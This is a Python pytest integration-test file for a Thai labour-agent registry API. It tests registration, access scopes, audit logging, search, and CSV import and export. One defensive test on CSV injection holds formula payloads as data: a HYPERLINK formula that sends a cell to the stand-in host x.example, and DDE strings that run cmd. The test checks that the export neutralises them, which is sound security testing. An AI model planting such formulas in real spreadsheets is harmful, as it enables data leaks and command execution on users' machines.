"""registry's API as operators, field agents and the ministry's inspectors use
it: signed tokens, a real RabbitMQ vhost and a real database."""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from sqlalchemy import create_engine, text

from labornet_registry.seed import write_network_csv
from labornet_shared.db import normalise_url
from labornet_shared.events import parse_event
from labornet_shared.reference.national_id import generate_national_id
from labornet_shared.tokens import issue_token
from labornet_testkit.registry import agent_payload

PROBLEM = "application/problem+json"


@pytest.fixture
def bearer(registry_config: dict[str, Any]) -> Callable[..., dict[str, str]]:
    """Authorization headers signed with this registry's TOKEN_SECRET."""
    secret = registry_config["TOKEN_SECRET"]

    def make(scope: str, **claims: Any) -> dict[str, str]:
        return {"Authorization": f"Bearer {issue_token(secret, scope, **claims)}"}

    return make


@pytest.fixture
def operator(bearer) -> dict[str, str]:
    return bearer("operator", name="operator-somsri")


@pytest.fixture
def sql(registry_db: str) -> Iterator[Callable[..., list[Any]]]:
    engine = create_engine(normalise_url(registry_db))

    def run(statement: str, **params: Any) -> list[Any]:
        with engine.connect() as conn:
            return list(conn.execute(text(statement), params))

    yield run
    engine.dispose()


@pytest.fixture
def rng() -> random.Random:
    return random.Random(2568)


def register(api: Any, operator: dict, body: dict) -> dict:
    response = api.post("/v1/agents", json=body, headers=operator)
    assert response.status_code == 201, response.text
    return dict(response.json())


def assert_problem(response: Any, status: int, code: str) -> dict:
    assert response.status_code == status, response.text
    assert response.headers["Content-Type"] == PROBLEM
    document = dict(response.json())
    assert document["code"] == code
    return document


# --- registering and reading -------------------------------------------------


def test_a_registered_agent_is_announced_once(
    registry_api, operator, queue_tap, rng
) -> None:
    tap = queue_tap("registry.events")
    agent = register(registry_api, operator, agent_payload(rng))
    assert agent["status"] == "active"
    assert agent["office"] == "ops.TH-52"
    assert agent["areas"] == [
        {
            "province_code": "TH-52",
            "district_code": "5201",
            "subdistrict_code": "520101",
        }
    ]
    (event,) = tap.drain(expected=1)
    assert event["event_type"] == "agent_registered"
    assert event["payload"]["agent_id"] == agent["id"]
    assert agent["national_id"] not in str(event)


def test_a_national_id_registers_once(registry_api, operator, rng) -> None:
    body = agent_payload(rng)
    first = register(registry_api, operator, body)
    again = registry_api.post("/v1/agents", json=body, headers=operator)
    assert_problem(again, 409, "agent_exists")
    assert again.headers["Location"] == f"/v1/agents/{first['id']}"


@pytest.mark.parametrize(
    ("change", "field", "code"),
    [
        ({"national_id": "1234567890123"}, "national_id", "national_id_checksum"),
        ({"phone": "12"}, "phone", "phone_format"),
        ({"kind": "inspector"}, "kind", "not_one_of"),
        ({"languages": ["xx"]}, "languages.0", "not_one_of"),
        ({"languages": ["th", "fin"]}, "languages.1", "not_one_of"),
        ({"languages": ["english"]}, "languages.0", "not_one_of"),
        ({"areas": [{"province_code": "TH-99"}]}, "areas.0.province_code", None),
        (
            {"areas": [{"province_code": "TH-50", "subdistrict_code": "520101"}]},
            "areas.0.subdistrict_code",
            "subdistrict_not_in_province",
        ),
        ({"areas": [], "abroad_country": None}, "areas", "place_required"),
        ({"abroad_country": "TW"}, "abroad_country", "place_conflict"),
        ({"start_date": "yesterday"}, "start_date", "date_format"),
    ],
)
def test_bad_agents_are_refused_naming_the_field(
    registry_api, operator, sql, rng, change, field, code
) -> None:
    response = registry_api.post(
        "/v1/agents", json=agent_payload(rng, **change), headers=operator
    )
    problem = assert_problem(response, 400, "validation_failed")
    errors = {e["field"]: e["code"] for e in problem["errors"]}
    assert field in errors, problem
    if code is not None:
        assert errors[field] == code
    assert sql("SELECT count(*) FROM agents")[0][0] == 0
    assert sql("SELECT count(*) FROM outbox_messages")[0][0] == 0


def test_the_whole_agent_is_for_operators_and_the_agent_themself(
    registry_api, operator, bearer, sql, rng
) -> None:
    agent = register(registry_api, operator, agent_payload(rng))
    path = f"/v1/agents/{agent['id']}"
    me = bearer("agent", agent_id=agent["id"])
    assert registry_api.get(path, headers=operator).json()["national_id"]
    assert registry_api.get(path, headers=me).json()["id"] == agent["id"]
    for stranger in (
        bearer("agent", agent_id="another-agent"),
        bearer("agency", agency="sso"),
    ):
        assert_problem(registry_api.get(path, headers=stranger), 404, "not_found")
    assert_problem(registry_api.get(path), 401, "unauthorized")
    # every read of personal data is in the audit log, the data is not
    audit = sql("SELECT actor, action, agent_id FROM audit_log ORDER BY id")
    assert [tuple(row) for row in audit] == [
        ("operator-somsri", "read_agent", agent["id"]),
        (agent["id"], "read_agent", agent["id"]),
    ]


def test_an_office_reads_an_agents_work_contact_audited(
    registry_api, operator, bearer, sql, rng
) -> None:
    # a volunteer of Lampang (TH-52), one abroad, one of Lampang gone inactive
    lampang = register(
        registry_api, operator, agent_payload(rng, line_user_id="U" + "1" * 32)
    )
    abroad = register(
        registry_api,
        operator,
        agent_payload(rng, areas=[], abroad_country="TW", abroad_city="Taipei"),
    )
    gone = register(registry_api, operator, agent_payload(rng))
    deactivated = registry_api.post(
        f"/v1/agents/{gone['id']}/deactivate", headers=operator
    )
    assert deactivated.status_code == 200, deactivated.text
    sso_lampang = bearer("agency", agency="sso", province="TH-52")

    answer = registry_api.get(
        f"/v1/agents/{lampang['id']}/contact", headers=sso_lampang
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.json() == {
        "agent_id": lampang["id"],
        "kind": "labour_volunteer",
        "status": "active",
        "name_th": lampang["first_name_th"] + " " + lampang["last_name_th"],
        "name_en": None,
        "phone": lampang["phone"],
        "email": None,
        "line_user_id": "U" + "1" * 32,
        "languages": ["th"],
        "office": "ops.TH-52",
    }
    assert lampang["national_id"] not in answer.text
    # a whole agency reads any active agent; an office in Chiang Mai (TH-50)
    # only agents of its province or abroad
    for token, agent in (
        (bearer("agency", agency="dlpw"), lampang),
        (bearer("agency", agency="sso", province="TH-50"), abroad),
        (operator, gone),
    ):
        path = f"/v1/agents/{agent['id']}/contact"
        assert registry_api.get(path, headers=token).status_code == 200, path
    for token, agent in (
        (bearer("agency", agency="sso", province="TH-50"), lampang),
        (sso_lampang, gone),
        (bearer("agent", agent_id=lampang["id"]), lampang),
        (bearer("open311", name="civic-app"), lampang),
    ):
        path = f"/v1/agents/{agent['id']}/contact"
        assert_problem(registry_api.get(path, headers=token), 404, "not_found")
    unknown = "/v1/agents/00000000-0000-4000-8000-000000000000/contact"
    assert_problem(registry_api.get(unknown, headers=sso_lampang), 404, "not_found")
    assert_problem(
        registry_api.get(f"/v1/agents/{lampang['id']}/contact"), 401, "unauthorized"
    )
    # one audit row per read that answered: who, which agent; never the contact
    audit = sql(
        "SELECT actor_scope, action, agent_id, detail FROM audit_log"
        " WHERE action = 'read_agent_contact' ORDER BY id"
    )
    assert [tuple(row) for row in audit] == [
        ("agency", "read_agent_contact", lampang["id"], "sso.TH-52"),
        ("agency", "read_agent_contact", lampang["id"], "dlpw"),
        ("agency", "read_agent_contact", abroad["id"], "sso.TH-50"),
        ("operator", "read_agent_contact", gone["id"], None),
    ]
    logged = " ".join(
        str(value) for row in sql("SELECT * FROM audit_log") for value in row
    )
    for personal in (lampang["phone"], lampang["first_name_th"], "U" + "1" * 32):
        assert personal not in logged


def test_an_agent_updates_their_contact_but_nothing_else(
    registry_api, operator, bearer, queue_tap, rng
) -> None:
    tap = queue_tap("registry.events")
    agent = register(registry_api, operator, agent_payload(rng))
    me = bearer("agent", agent_id=agent["id"])
    path = f"/v1/agents/{agent['id']}"
    refused = registry_api.patch(path, json={"kind": "labour_graduate"}, headers=me)
    problem = assert_problem(refused, 400, "validation_failed")
    assert problem["errors"][0] == {
        "field": "kind",
        "code": "read_only",
        "message": problem["errors"][0]["message"],
    }
    changed = registry_api.patch(
        path, json={"phone": "0899999999", "languages": ["th", "my"]}, headers=me
    )
    assert changed.status_code == 200, changed.text
    assert changed.json()["phone"] == "+66899999999"
    registered, event = tap.drain(expected=2)
    assert registered["event_type"] == "agent_registered"
    assert event["event_type"] == "agent_updated"
    assert sorted(event["payload"]["changed"]) == ["languages", "phone"]
    other = bearer("agent", agent_id="another-agent")
    assert_problem(
        registry_api.patch(path, json={"phone": "0811111111"}, headers=other),
        404,
        "not_found",
    )


def test_deactivation(registry_api, operator, queue_tap, rng) -> None:
    tap = queue_tap("registry.events")
    agent = register(registry_api, operator, agent_payload(rng))
    path = f"/v1/agents/{agent['id']}/deactivate"
    done = registry_api.post(path, json={"reason": "term ended"}, headers=operator)
    assert done.status_code == 200, done.text
    assert done.json()["status"] == "inactive"
    assert_problem(registry_api.post(path, headers=operator), 409, "agent_not_active")
    _registered, event = tap.drain(expected=2)
    assert event["event_type"] == "agent_deactivated"
    assert event["payload"]["reason"] == "term ended"


# --- search, coverage, stats, export -------------------------------------------


def test_search_by_thai_name_prefix_and_place(registry_api, operator, rng) -> None:
    register(
        registry_api,
        operator,
        agent_payload(rng, first_name_th="สมชาย", last_name_th="ใจดี"),
    )
    register(
        registry_api,
        operator,
        agent_payload(
            rng,
            first_name_th="มาลี",
            last_name_th="ศรีสุข",
            kind="labour_graduate",
            areas=[{"province_code": "TH-50", "district_code": "5001"}],
        ),
    )
    found = registry_api.get("/v1/agents", params={"q": "สมชายใจ"}, headers=operator)
    assert [a["name_th"] for a in found.json()["agents"]] == ["สมชาย ใจดี"]
    # a list carries no national ID
    assert "national_id" not in found.json()["agents"][0]
    north = registry_api.get(
        "/v1/agents", params={"region": "north", "limit": 1}, headers=operator
    ).json()
    assert len(north["agents"]) == 1 and north["next_cursor"]
    rest = registry_api.get(
        "/v1/agents",
        params={"region": "north", "cursor": north["next_cursor"]},
        headers=operator,
    ).json()
    assert len(rest["agents"]) == 1 and rest["next_cursor"] is None
    assert_problem(
        registry_api.get("/v1/agents", params={"province": "52"}, headers=operator),
        400,
        "validation_failed",
    )


def test_coverage_answers_most_specific_first(registry_api, operator, rng) -> None:
    volunteer = register(registry_api, operator, agent_payload(rng))
    graduate = register(
        registry_api,
        operator,
        agent_payload(rng, kind="labour_graduate", areas=[{"province_code": "TH-52"}]),
    )
    answer = registry_api.get(
        "/v1/coverage",
        params={"province": "TH-52", "district": "5201", "subdistrict": "520101"},
        headers=operator,
    )
    assert answer.status_code == 200, answer.text
    assert [(e["level"], e["agent"]["id"]) for e in answer.json()["agents"]] == [
        ("subdistrict", volunteer["id"]),
        ("province", graduate["id"]),
    ]
    wrong = registry_api.get(
        "/v1/coverage",
        params={"province": "TH-50", "subdistrict": "520101"},
        headers=operator,
    )
    problem = assert_problem(wrong, 400, "validation_failed")
    assert problem["errors"][0]["field"] == "subdistrict"


def test_stats_and_gaps(registry_api, operator, rng) -> None:
    register(registry_api, operator, agent_payload(rng))
    stats = registry_api.get("/v1/stats", headers=operator).json()
    assert stats["totals"] == {"labour_volunteer": {"active": 1}}
    assert stats["districts_covered"] == 1
    assert len(stats["coverage_gaps"]) == stats["districts"] - 1
    assert_problem(registry_api.get("/v1/stats", headers={}), 401, "unauthorized")


@pytest.mark.parametrize(
    ("country", "languages"), [("FI", ["th", "fi"]), ("KR", ["ko", "ja", "he", "sv"])]
)
def test_an_agent_abroad_speaks_the_host_countrys_language(
    registry_api, operator, bearer, queue_tap, rng, country, languages
) -> None:
    tap = queue_tap("registry.events")
    body = agent_payload(rng, areas=[], abroad_country=country, languages=languages)
    agent = register(registry_api, operator, body)
    assert agent["languages"] == languages
    me = bearer("agent", agent_id=agent["id"])
    changed = registry_api.patch(
        f"/v1/agents/{agent['id']}", json={"languages": ["th", "sv"]}, headers=me
    )
    assert changed.status_code == 200, changed.text
    registered, updated = tap.drain(expected=2)
    # the events pass the contract every consumer reads them with
    for event, spoken in ((registered, languages), (updated, ["th", "sv"])):
        body = {k: v for k, v in event.items() if not k.startswith("_")}
        parsed = parse_event(body)
        assert parsed.payload["languages"] == spoken


# --- roster import over HTTP ---------------------------------------------------


def test_an_import_takes_any_iso_language_and_suggests_places(
    registry_api, operator, rng
) -> None:
    columns = ["kind", "first_name_th", "last_name_th", "national_id", "phone"]
    columns += ["languages", "province_code", "district", "subdistrict"]
    columns += ["abroad_country", "abroad_city"]
    rows = [
        ["อสร.", "สมศรี", "มีสุข", "", "+358401234567", "th,fi", "", "", ""],
        ["อสร.", "สมชาย", "ใจดี", "", "+821012345678", "ko,ja,he,sv", "", "", ""],
        ["อสร.", "สมหญิง", "รักงาน", "", "0812345678", "xx", "ลำปาง", "อ.เมือง", ""],
        ["อสร.", "สมใจ", "ดีงาม", "", "0812345679", "th", "ลำปาง", "อ.เมือง", ""],
        ["อสร.", "สมบุญ", "ศรีสุข", "", "0812345670", "th", "กทม", "เขตบางนา", ""],
    ]
    rows[0] += ["FI", "Helsinki"]
    rows[1] += ["KR", "Seoul"]
    rows[2][-1] = "ต.หัวเวียง"
    rows[3][-1] = "ต.หัวเวยง"
    rows[4][-1] = "แขวงบางนา"
    for row in rows[2:]:
        row += ["", ""]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(columns)
    for row in rows:
        row[3] = generate_national_id(rng)
        writer.writerow(row)

    answer = registry_api.post(
        "/v1/agents/import",
        data=out.getvalue().encode(),
        headers={**operator, "Content-Type": "text/csv"},
    )

    assert answer.status_code == 200, answer.text
    report = answer.json()
    assert (report["registered"], report["rejected"]) == (2, 3)
    errors = {(e["row"], e["column"]): e for e in report["errors"]}
    assert set(errors) == {(4, "languages"), (5, "subdistrict"), (6, "subdistrict")}
    assert "'xx'" in errors[4, "languages"]["detail"]
    assert errors[4, "languages"]["suggestions"] == []
    assert errors[5, "subdistrict"]["suggestions"] == [
        {"code": "520102", "name_th": "หัวเวียง", "reason": "similar_name"}
    ]
    assert "did you mean 520102 (หัวเวียง)?" in errors[5, "subdistrict"]["detail"]
    assert [s["code"] for s in errors[6, "subdistrict"]["suggestions"]] == [
        "104702",
        "104703",
    ]
    found = registry_api.get(
        "/v1/agents", params={"language": "fi"}, headers=operator
    ).json()
    assert [a["abroad_country"] for a in found["agents"]] == ["FI"]


def test_import_a_roster_then_again_changes_nothing(
    registry_api, operator, queue_tap, tmp_path
) -> None:
    roster = tmp_path / "lampang.csv"
    rows = write_network_csv(roster, 7, graduates=5, volunteers=20, abroad=3)
    tap = queue_tap("registry.events")
    headers = {**operator, "Content-Type": "text/csv"}
    first = registry_api.post(
        "/v1/agents/import", data=roster.read_bytes(), headers=headers
    )
    assert first.status_code == 200, first.text
    report = first.json()
    assert (report["registered"], report["rejected"], report["imported"]) == (
        rows,
        0,
        True,
    )
    events = tap.drain(expected=rows)
    assert [e["event_type"] for e in events] == ["agent_registered"] * rows
    again = registry_api.post(
        "/v1/agents/import", data=roster.read_bytes(), headers=headers
    ).json()
    assert (again["registered"], again["updated"], again["unchanged"]) == (0, 0, rows)
    assert tap.drain(expected=0, timeout=1.5) == []
    # one agent's new phone number: exactly one agent_updated, naming it
    lines = roster.read_text(encoding="utf-8-sig").splitlines()
    header = next(csv.reader([lines[0]]))
    first = dict(zip(header, next(csv.reader([lines[1]])), strict=True))
    first["phone"] = "+66899990000"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header)
    writer.writeheader()
    writer.writerow(first)
    for line in lines[2:]:
        writer.writerow(dict(zip(header, next(csv.reader([line])), strict=True)))
    changed = registry_api.post(
        "/v1/agents/import", data=out.getvalue().encode(), headers=headers
    ).json()
    assert (changed["updated"], changed["unchanged"]) == (1, rows - 1)
    (update,) = tap.drain(expected=1)
    assert update["event_type"] == "agent_updated"
    assert update["payload"]["changed"] == ["phone"]
    assert update["payload"]["contact"]["phone"] == "+66899990000"


def test_import_reports_bad_rows_and_keeps_them_for_download(
    registry_api, operator, sql, tmp_path
) -> None:
    roster = tmp_path / "roster.csv"
    write_network_csv(roster, 8, graduates=2, volunteers=3, abroad=0)
    text_rows = roster.read_text(encoding="utf-8-sig").splitlines()
    header = next(csv.reader([text_rows[0]]))
    broken = dict(zip(header, next(csv.reader([text_rows[1]])), strict=True))
    broken["national_id"] = "1234567890123"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header)
    writer.writeheader()
    writer.writerow(broken)
    for line in text_rows[2:]:
        writer.writerow(dict(zip(header, next(csv.reader([line])), strict=True)))
    headers = {**operator, "Content-Type": "text/csv"}
    answer = registry_api.post(
        "/v1/agents/import",
        params={"all_or_nothing": "true"},
        data=out.getvalue().encode(),
        headers=headers,
    )
    report = answer.json()
    assert (report["imported"], report["rejected"], report["registered"]) == (
        False,
        1,
        4,
    )
    assert report["errors"][0]["row"] == 2
    assert report["errors"][0]["column"] == "national_id"
    assert sql("SELECT count(*) FROM agents")[0][0] == 0
    download = registry_api.get(report["rejected_csv"], headers=operator)
    assert download.status_code == 200
    assert "text/csv" in download.headers["Content-Type"]
    assert "national_id" in download.content.decode("utf-8-sig")
    # the default: good rows in, the bad one reported
    good = registry_api.post(
        "/v1/agents/import", data=out.getvalue().encode(), headers=headers
    ).json()
    assert (good["imported"], good["registered"], good["rejected"]) == (True, 4, 1)


def test_an_export_is_a_roster_the_importer_reads_back(
    registry_api, operator, sql, tmp_path
) -> None:
    roster = tmp_path / "roster.csv"
    rows = write_network_csv(roster, 9, graduates=3, volunteers=6, abroad=2)
    headers = {**operator, "Content-Type": "text/csv"}
    registry_api.post("/v1/agents/import", data=roster.read_bytes(), headers=headers)
    export = registry_api.get("/v1/agents/export.csv", headers=operator)
    assert export.status_code == 200
    again = registry_api.post(
        "/v1/agents/import", data=export.content, headers=headers
    ).json()
    assert (again["unchanged"], again["rejected"]) == (rows, 0)
    assert ("operator-somsri", "export_agents") in [
        tuple(row) for row in sql("SELECT actor, action FROM audit_log")
    ]


def test_an_agents_own_formula_is_inert_in_the_operators_export(
    registry_api, operator, bearer, rng
) -> None:
    """OWASP CSV injection: an agent sets its own LINE id to a formula; the
    operator's export must show it as text, not run it."""
    agent = register(registry_api, operator, agent_payload(rng))
    own = bearer("agent", agent_id=agent["id"])
    formulas = {
        '=HYPERLINK("http://x.example/?"&B2,"open")': "line",
        "@SUM(1+1)*cmd|' /C calc'!A0": "at",
        "+1+cmd|' /C calc'!A0": "plus",
        "-2+3+cmd|' /C calc'!A0": "minus",
        "\t=1+1": "tab",
        "\r=1+1": "cr",
    }
    for formula in formulas:
        changed = registry_api.patch(
            f"/v1/agents/{agent['id']}",
            json={"line_user_id": formula},
            headers=own,
        )
        assert changed.status_code == 200, changed.text
        export = registry_api.get("/v1/agents/export.csv", headers=operator)
        rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))))
        [row] = [row for row in rows if row["agent_id"] == agent["id"]]
        assert row["line_user_id"] == "'" + formula
        # every cell: none starts a formula
        for value in (v for r in rows for v in r.values()):
            assert not value.startswith(("=", "@", "\t", "\r")), value
    # a plain number (the phone) is left as it is, so it reads back
    assert row["phone"] == agent["phone"]


def test_an_upload_over_the_import_limit_is_413(start_registry, operator) -> None:
    api = start_registry(MAX_IMPORT_BYTES=10_000)
    with api:
        answer = api.post(
            "/v1/agents/import",
            data=b"x" * 20_000,
            headers={**operator, "Content-Type": "text/csv"},
        )
    assert_problem(answer, 413, "payload_too_large")


def test_a_file_that_is_no_roster_is_422(registry_api, operator) -> None:
    answer = registry_api.post(
        "/v1/agents/import",
        data=b"hello,world\n1,2\n",
        headers={**operator, "Content-Type": "text/csv"},
    )
    problem = assert_problem(answer, 422, "roster_unreadable")
    assert problem["errors"][0]["field"] == "file"


def test_only_operators_import(registry_api, bearer) -> None:
    answer = registry_api.post(
        "/v1/agents/import",
        data=b"kind\n",
        headers={**bearer("agent", agent_id="a-1"), "Content-Type": "text/csv"},
    )
    assert_problem(answer, 404, "not_found")


def test_openapi_documents_every_route(registry_api) -> None:
    spec = registry_api.get("/openapi.json").json()
    assert spec["openapi"] == "3.1.0"
    for path in (
        "/v1/agents",
        "/v1/agents/{agent_id}",
        "/v1/agents/{agent_id}/contact",
        "/v1/agents/import",
        "/v1/coverage",
        "/v1/stats",
        "/v1/agents/export.csv",
    ):
        assert path in spec["paths"], path
